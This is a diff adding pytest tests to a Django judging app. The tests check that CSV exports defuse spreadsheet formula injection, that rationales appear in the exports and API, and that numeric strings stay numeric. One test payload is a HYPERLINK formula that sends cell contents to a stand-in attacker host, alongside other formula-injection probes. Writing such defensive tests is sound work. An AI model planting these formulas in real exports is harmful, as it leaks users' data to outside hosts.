@@ -62,3 +62,31 @@ def test_export_api(engineer, engineer_client, viewer_client, client, world):
     response = client.get(url, HTTP_AUTHORIZATION=f"Bearer {raw}")
     assert response.status_code == 200
     assert [j["outcome"] for j in json.loads(_body(response))["judgments"]] == ["a", "both_bad"]
+
+
+@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A2)",
+                                     "\t=1+1"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(engineer_client, world, payload):
+    from judging.models import Judgment
+
+    Judgment.objects.filter(reviewer=world.reviewers[0]).update(rationale=payload)
+    rows = list(csv.DictReader(io.StringIO(_body(engineer_client.get("/judge/campaigns/ex/export.csv")))))
+    assert rows[0]["rationale"] == "'" + payload
+    assert rows[0]["seconds"] == "12.5"  # numbers stay numbers
+
+
+def test_rationales_are_in_the_exports_and_the_api(engineer_client, world):
+    from judging.models import Judgment
+
+    Judgment.objects.filter(reviewer=world.reviewers[0]).update(rationale="A cites its source")
+    csv_rows = list(csv.DictReader(io.StringIO(_body(engineer_client.get("/judge/campaigns/ex/export.csv")))))
+    assert [r["rationale"] for r in csv_rows] == ["A cites its source", ""]
+    api = json.loads(_body(engineer_client.get("/api/v1/judging/campaigns/ex/judgments")))
+    assert [j["rationale"] for j in api["judgments"]] == ["A cites its source", ""]
+
+
+def test_numbers_written_as_text_stay_numbers():
+    from evalhub.core.csvsafe import safe_cell
+
+    assert [safe_cell(v) for v in ["-0.25", "+3", "-1e-06", "-5%", "-2+3", "=1", "@x", "plain", -1.5]] == [
+        "-0.25", "+3", "-1e-06", "-5%", "'-2+3", "'=1", "'@x", "plain", -1.5]
